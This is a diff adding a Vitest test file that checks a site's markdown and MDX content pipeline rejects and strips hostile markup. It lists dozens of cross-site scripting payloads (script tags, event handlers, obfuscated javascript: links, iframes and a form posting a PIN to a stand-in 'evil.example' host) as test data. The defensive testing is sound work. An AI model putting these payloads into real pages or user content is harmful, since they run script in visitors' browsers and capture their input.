@@ -1,0 +1,164 @@
+import { createRequire } from 'node:module';
+import { createElement } from 'react';
+import { renderToStaticMarkup } from 'react-dom/server';
+import { expect, test } from 'vitest';
+import { contentOf, nameOf } from '~/content-check/content';
+import { readContent } from '~/content-check/files/read';
+import { issuesIn } from '~/content-check/rules';
+import { markdownProcessor } from '~/lib/markdown/processor';
+import { FIXTURE_CONTENT } from '../support/fixture.ts';
+import { PROJECT } from './folder';
+
+/** Markup that runs, loads, hides or leads astray, for an answer (.md). */
+const IN_ANSWER = [
+  ...['<script>alert(1)</script>', 'Hi <script src=//evil.example', '<SCRIPT>alert(1)</SCRIPT>', '<scr<script>ipt>x'],
+  ...[
+    '<img src=x onerror=alert(1)>',
+    '<b onclick="alert(1)">hi</b>',
+    '<svg onload=alert(1)>',
+    '<svg><script>1</script>',
+  ],
+  ...['<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data=x>'],
+  ...[
+    '<embed src="x.swf">',
+    '<base href="https://evil.example/">',
+    '<meta http-equiv=refresh content=0>',
+    '<link rel=stylesheet href=x>',
+  ],
+  ...[
+    '<style>body{display:none}</style>',
+    '<form action="https://evil.example"><input name=pin></form>',
+    '<a href="javascript:alert(1)">x</a>',
+  ],
+  ...[
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    '<details open ontoggle=alert(1)>',
+    '<template><script>x</script></template>',
+  ],
+  ...[
+    '<video><source onerror=alert(1)></video>',
+    '<body onload=alert(1)>',
+    'Yes.</main>',
+    "<span title='\"><script>alert(1)</script>'>b</span>",
+  ],
+  ...[
+    'a <!-- --!> <img src=x onerror=alert(1)> --> b',
+    'a <!-- --!> <meta http-equiv=refresh content=0> --> b',
+    'Hi\n\n<!-- for later',
+  ],
+  ...[
+    '<!--><script>alert(1)</script>-->',
+    '<?xml <script>alert(1)</script> ?>',
+    '<![CDATA[<script>alert(1)</script>]]>',
+    '<!DOCTYPE html>',
+  ],
+  ...[
+    '[a](javascript:alert(1))',
+    '[a](JaVaScRiPt:alert(1))',
+    '[a](&#106;avascript:alert(1))',
+    '[a](javascript&colon;alert(1))',
+  ],
+  ...[
+    '[a](java\\script:alert(1))',
+    '[a](<java\tscript:alert(1)>)',
+    '[a](data:text/html,x)',
+    '[a](vbscript:x)',
+    '[a](//evil.example)',
+    '[a](/\\\\evil.example)',
+  ],
+  ...[
+    '[a][1]\n\n[1]: javascript:alert(1)',
+    '<javascript:alert(1)>',
+    '![a](javascript:alert(1))',
+    '![a](data:image/svg+xml,x)',
+    '![a](https://evil.example/x.png)',
+  ],
+  ...[
+    '| a |\n|-|\n| <img src=x onerror=alert(1)> |',
+    'a[^1]\n\n[^1]: [click](javascript:alert(1))',
+    '[<img src=x onerror=alert(1)>](/about)',
+  ],
+];
+/** The same for the story (.mdx). */
+const IN_STORY = [
+  ...['{alert(1)}', 'The year {new Date().getFullYear()}', 'import fs from "node:fs"', 'export const x = alert(1)'],
+  ...[
+    '<script>alert(1)</script>',
+    '<Glass />',
+    '<b onClick={alert}>hi</b>',
+    '<div dangerouslySetInnerHTML={{__html: "x"}} />',
+  ],
+  ...['[a](javascript:alert(1))', '<img src="x" onerror="alert(1)" />', '<></>', '[{alert(1)}](/about)'],
+];
+
+const fixture = readContent(FIXTURE_CONTENT, PROJECT);
+const entryIn = (name: string) => {
+  const entry = fixture.entries.find(({ collection }) => collection.name === name);
+  if (!entry) throw new Error(`There is no entry of ${name}.`);
+  return entry;
+};
+
+/** The files that are refused when the text of an entry is another one. */
+async function refused(collection: string, words: string): Promise<string[]> {
+  const changed = nameOf(entryIn(collection));
+  const text = entryIn(collection).text.replace(/\n---\n[\s\S]*$/, () => `\n---\n\n${words}\n`);
+  const texts = new Map([...fixture.entries.map((entry) => [nameOf(entry), entry.text] as const), [changed, text]]);
+  const files = { names: [...texts.keys()], text: (name: string) => texts.get(name) ?? '', invalidFiles: [] };
+  const issues = await issuesIn(contentOf({ ...files, siteFiles: fixture.files.siteFiles }));
+  return issues.map((issue) => `${issue.file} ${issue.code}`);
+}
+
+const OPTIONS = { syntaxHighlight: false } as const;
+const renderer = await markdownProcessor().createRenderer(OPTIONS);
+const compiler = await markdownProcessor().createMdxRenderer?.(OPTIONS, {
+  srcDir: new URL('file:///src/'),
+  optimize: false,
+  sourcemap: false,
+});
+const runtime: unknown = createRequire(import.meta.url)('react/jsx-runtime');
+
+/** The HTML of an .mdx text; nothing where it cannot be built. */
+async function mdxHtml(text: string): Promise<string> {
+  const built = await compiler?.process(text, 'content/story/index.mdx', {}).catch(() => undefined);
+  if (!built) return '';
+  const body = built.code
+    .replace(/^import .*$/gm, '')
+    .replace(/^export default /gm, 'return ')
+    .replace(/^export /gm, '');
+  const run = new Function('runtime', `const {Fragment: _Fragment, jsx: _jsx, jsxs: _jsxs} = runtime;${body}`);
+  return renderToStaticMarkup(createElement(run(runtime), { components: { 'astro-image': 'img' } }));
+}
+const mdHtml = async (text: string) => (await renderer.render(text, { fileURL: new URL('file:///text.md') })).code;
+
+const TAGS =
+  /^(p|a|img|em|strong|code|pre|br|hr|h[1-6]|ul|ol|li|blockquote|del|table|thead|tbody|tr|th|td|section|sup)$/;
+const ATTRIBUTES =
+  /^(id|class|alt|start|data-footnote.*|aria-.*|href="(?:#|\/(?![/\\])|https:\/\/|mailto:|tel:).*|__astro_image_.*)$/i;
+
+/** Tags and attributes of some HTML that no text may bring about. */
+const foreign = (html: string): string[] =>
+  [...html.matchAll(/<(!|\?|\/?[a-z][\w-]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>?/gi)].flatMap(
+    ([, tag = '', rest = '']) => [
+      ...(TAGS.test(tag.replace('/', '')) ? [] : [tag]),
+      ...[...rest.matchAll(/\s+([^\s=>]+)(="[^"]*")?/g)]
+        .filter(([, name = '', value = '']) => !ATTRIBUTES.test(name) && !ATTRIBUTES.test(name + value))
+        .map(([all]) => all),
+    ],
+  );
+
+test.each(IN_ANSWER)('an answer may not hold %s, and the build leaves it out', async (words) => {
+  expect(await refused('questions', words)).toContainEqual(expect.stringContaining(entryIn('questions').file));
+  expect(foreign(await mdHtml(words))).toEqual([]);
+});
+
+test.each(IN_STORY)('the story may not hold %s, and the build leaves it out', async (words) => {
+  expect(await refused('story', words)).toContainEqual(expect.stringContaining('content/story/index.mdx'));
+  expect(foreign(await mdxHtml(words))).toEqual([]);
+});
+
+test('what is left out is found where it is left in', () => {
+  expect(foreign('<p onclick="x">a</p><script>1</script><a href="javascript:1">b</a>')).toEqual([
+    ...[' onclick="x"', 'script', '/script', ' href="javascript:1"'],
+  ]);
+  expect(IN_ANSWER.length + IN_STORY.length).toBeGreaterThan(50);
+});
